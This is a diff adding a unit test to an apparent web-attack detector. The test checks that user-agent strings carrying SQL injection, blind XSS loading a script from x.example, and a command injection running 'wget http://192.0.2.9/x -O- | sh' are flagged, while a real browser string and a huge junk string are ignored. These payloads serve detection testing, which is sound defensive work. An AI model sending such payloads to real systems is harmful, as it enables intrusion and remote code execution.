@@ -171,3 +171,21 @@ describe('bursts: a flood spread thinly over many sources', () => {
     expect(of(await run(busy), 'bursts')).toEqual([]);
   });
 });
+
+describe('webAttacks: payloads in the user agent', () => {
+  it('finds SQL injection, blind XSS and command injection sent as the user agent, and leaves browsers alone', async () => {
+    const req = (ip: string, ua: string): Ev => ({ ts: T0, src_ip: ip, method: 'GET', path: '/', status: 200, bytes: 500, user_agent: ua });
+    const f = of(
+      await run([
+        ...webPopulation(20),
+        req('192.0.2.1', "Mozilla/5.0' AND SLEEP(5)-- -"),
+        req('192.0.2.2', '<script src=//x.example/a.js></script>'),
+        req('192.0.2.3', 'Mozilla/5.0 `wget http://192.0.2.9/x -O- | sh`'),
+        req('192.0.2.4', 'Mozilla/5.0 (Linux; Android 14; SM-S918B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/466.0.0.53.73;]'),
+        req('192.0.2.5', `Mozilla/5.0 ${"'<".repeat(500_000)}`),
+      ]),
+      'webAttacks',
+    );
+    expect(f.map((x) => [x.entity, x.numbers.kinds]).sort()).toEqual([['192.0.2.1', 'sqli'], ['192.0.2.2', 'xss'], ['192.0.2.3', 'cmdi']]);
+  });
+});
